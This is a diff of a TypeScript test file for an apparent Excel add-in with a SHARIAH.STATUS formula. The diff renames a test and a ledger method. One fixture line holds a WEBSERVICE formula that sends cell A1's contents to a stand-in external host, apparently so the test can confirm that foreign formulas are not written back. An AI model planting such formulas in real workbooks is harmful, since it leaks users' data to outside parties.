@@ -436,7 +436,7 @@ describe("Excel's sheets", () => {
     expect(formulas).toEqual(['=SHARIAH.STATUS("NOSUCH")', "=SHARIAH.STATUS(A9)"]);
   });
 
-  test("a ledger of earlier versions thaws; what is no formula of ours is not written", async () => {
+  test("what earlier versions froze thaws; what is no formula of ours is not written", async () => {
     const { host, workbook, sheets } = bench;
     await bench.type(3);
     await idle();
@@ -445,7 +445,7 @@ describe("Excel's sheets", () => {
     workbook.set("Sheet1", 0, 4, "x");
     const entry = (place: readonly number[], formula: string, shows: unknown) =>
       ["old", "1", "Ali", "Sheet1", ...place.map(String), formula, JSON.stringify(shows), "{1}"] as const;
-    await sheets.keepLedger([
+    await sheets.keepFrozen([
       entry([0, 1, 3, 1], "=SHARIAH.STATUS(A1:A3)", verdicts[0]),
       entry([0, 4, 1, 1], '=WEBSERVICE("https://elsewhere.example/?"&A1)', "x"),
       entry([5, 5, 1, 1], "=SHARIAH.STATUS(A1)", "gone since"),
